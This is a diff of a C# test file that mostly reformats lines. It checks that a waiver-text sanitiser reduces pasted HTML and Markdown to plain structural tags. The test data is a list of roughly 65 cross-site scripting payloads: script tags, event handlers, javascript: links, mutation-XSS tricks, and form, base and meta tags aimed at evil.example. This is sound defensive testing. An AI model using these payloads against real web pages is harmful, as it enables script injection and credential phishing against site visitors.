@@ -1,29 +1,52 @@
 using AngleSharp;
-using ShipCaptainCrew.Actions;
+using ShipCaptainCrew.Actions.Waivers;
 using ShipCaptainCrew.Domain.Operators;
 
 namespace ShipCaptainCrew.Tests.Actions;
 
-/// <summary>Whatever the office pastes, guests are shown words and their structure, and nothing that acts, loads, styles or links.</summary>
+/// <summary>
+/// Whatever the office pastes, guests are shown words and their structure, and nothing that acts, loads, styles or
+/// links.
+/// </summary>
 public sealed class WaiverTextTests
 {
-    private static readonly HashSet<string> Shown = ["p", "h1", "h2", "h3", "h4", "ul", "ol", "li", "strong", "em", "b", "i", "br", "hr", "blockquote", "table", "thead", "tbody", "tr", "th", "td"];
+    private static readonly HashSet<string> Shown = ["p", "h1", "h2", "h3", "h4", "ul", "ol", "li", "strong", "em", "b",
+        "i", "br", "hr", "blockquote", "table", "thead", "tbody", "tr", "th", "td"];
 
     public static TheoryData<string> Payloads =>
     [
-        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<p onclick=alert(1)>x</p>", "<p/onmouseover=alert(1)>x</p>",
-        "<img src=x onerror=alert(1)>", "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
-        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=javascript:alert(1)>", "<object data=x></object>", "<embed src=x>",
-        "<a href=javascript:alert(1)>x</a>", "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>", "<a target=_blank href=//evil.example>x</a>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
-        "<link rel=stylesheet href=//evil.example>", "<style>body{display:none}</style>", "<style>@import '//evil.example'</style>", "<p style=position:fixed>x</p>", "<p style=\"background:url(//evil.example)\">x</p>",
-        "<form action=//evil.example><input name=signer_name></form>", "<button formaction=//evil.example>x</button>", "<input type=image src=x onerror=alert(1)>", "<textarea><p>x</p></textarea>", "<select><option>x</select>",
-        "<p id=sign>x</p>", "<p name=consent>x</p>", "<p class=errors>x</p>", "<p data-lost=x>x</p>", "<p hx-get=/x hx-trigger=load>x</p>",
-        "<div hx-on:load=alert(1)>x</div>", "<template><img src=x onerror=alert(1)></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<title><img src=x onerror=alert(1)></title>",
-        "<!--<img src=\"--><img src=x onerror=alert(1)>\">", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version=1?><p>x</p>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
-        "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<body onload=alert(1)>x", "<html><head><title>t</title></head><body>x</body></html>", "<frameset><frame src=javascript:alert(1)>",
-        "<table background=javascript:alert(1)><tr><td>x</td></tr></table>", "<td onclick=alert(1)>x</td>", "<custom-tag onclick=alert(1)>x</custom-tag>", "<p>\u0000<script>alert(1)</script></p>", "<<p>x</p>",
-        "<p title='\"><img src=x onerror=alert(1)>'>x</p>", "[x](javascript:alert(1))", "![x](//evil.example/x.png)", "> <img src=x onerror=alert(1)>", "`<script>`\n\n    <script>alert(1)</script>",
-        "<dialog open>x</dialog>", "<slot name=x></slot>", "<canvas></canvas>", "<portal src=x></portal>", "<p lang=en dir=rtl tabindex=1 autofocus onfocus=alert(1)>x</p>",
+        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<p onclick=alert(1)>x</p>", "<p/onmouseover=alert(1)>x</p>",
+        "<img src=x onerror=alert(1)>", "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
+        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
+        "<svg><style><img src=x onerror=alert(1)></style></svg>",
+        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=javascript:alert(1)>",
+        "<object data=x></object>", "<embed src=x>",
+        "<a href=javascript:alert(1)>x</a>", "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>",
+        "<a target=_blank href=//evil.example>x</a>", "<base href=//evil.example>",
+        "<meta http-equiv=refresh content=0;url=//evil.example>",
+        "<link rel=stylesheet href=//evil.example>", "<style>body{display:none}</style>",
+        "<style>@import '//evil.example'</style>", "<p style=position:fixed>x</p>",
+        "<p style=\"background:url(//evil.example)\">x</p>",
+        "<form action=//evil.example><input name=signer_name></form>", "<button formaction=//evil.example>x</button>",
+        "<input type=image src=x onerror=alert(1)>", "<textarea><p>x</p></textarea>", "<select><option>x</select>",
+        "<p id=sign>x</p>", "<p name=consent>x</p>", "<p class=errors>x</p>", "<p data-lost=x>x</p>",
+        "<p hx-get=/x hx-trigger=load>x</p>",
+        "<div hx-on:load=alert(1)>x</div>", "<template><img src=x onerror=alert(1)></template>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<title><img src=x onerror=alert(1)></title>",
+        "<!--<img src=\"--><img src=x onerror=alert(1)>\">", "<![CDATA[<img src=x onerror=alert(1)>]]>",
+        "<?xml version=1?><p>x</p>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
+        "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
+        "<body onload=alert(1)>x", "<html><head><title>t</title></head><body>x</body></html>",
+        "<frameset><frame src=javascript:alert(1)>",
+        "<table background=javascript:alert(1)><tr><td>x</td></tr></table>", "<td onclick=alert(1)>x</td>",
+        "<custom-tag onclick=alert(1)>x</custom-tag>", "<p>\u0000<script>alert(1)</script></p>", "<<p>x</p>",
+        "<p title='\"><img src=x onerror=alert(1)>'>x</p>", "[x](javascript:alert(1))", "![x](//evil.example/x.png)",
+        "> <img src=x onerror=alert(1)>", "`<script>`\n\n    <script>alert(1)</script>",
+        "<dialog open>x</dialog>", "<slot name=x></slot>", "<canvas></canvas>", "<portal src=x></portal>",
+        "<p lang=en dir=rtl tabindex=1 autofocus onfocus=alert(1)>x</p>",
     ];
 
     [Theory]
@@ -32,7 +55,9 @@ public sealed class WaiverTextTests
     {
         var html = WaiverTemplateActions.Sanitise(payload);
 
-        var page = await BrowsingContext.New(Configuration.Default).OpenAsync(response => response.Content($"<!doctype html><body><main>{html}</main>"), TestContext.Current.CancellationToken);
+        var page = await BrowsingContext.New(Configuration.Default)
+            .OpenAsync(response => response.Content($"<!doctype html><body><main>{html}</main>"),
+                TestContext.Current.CancellationToken);
         Assert.All(page.QuerySelectorAll("main *"), element =>
         {
             Assert.Contains(element.LocalName, Shown);
@@ -42,10 +67,12 @@ public sealed class WaiverTextTests
     }
 
     [Theory]
-    [InlineData("# One\n\n- **two**\n- three", "<h1>One</h1>\n<ul>\n<li><strong>two</strong></li>\n<li>three</li>\n</ul>")]
+    [InlineData(
+        "# One\n\n- **two**\n- three", "<h1>One</h1>\n<ul>\n<li><strong>two</strong></li>\n<li>three</li>\n</ul>")]
     [InlineData("<div class=x><h2>One</h2><p>two <a href=/x>three</a></p></div>", "<h2>One</h2><p>two three</p>")]
     [InlineData("before <script>alert(1)</script> after", "<p>before  after</p>")]
-    public void Markdown_and_HTML_come_out_as_plain_structure(string source, string html) => Assert.Equal(html, WaiverTemplateActions.Sanitise(source));
+    public void Markdown_and_HTML_come_out_as_plain_structure(string source, string html) =>
+        Assert.Equal(html, WaiverTemplateActions.Sanitise(source));
 
     [Fact]
     public void The_sample_loses_nothing_on_the_way() =>
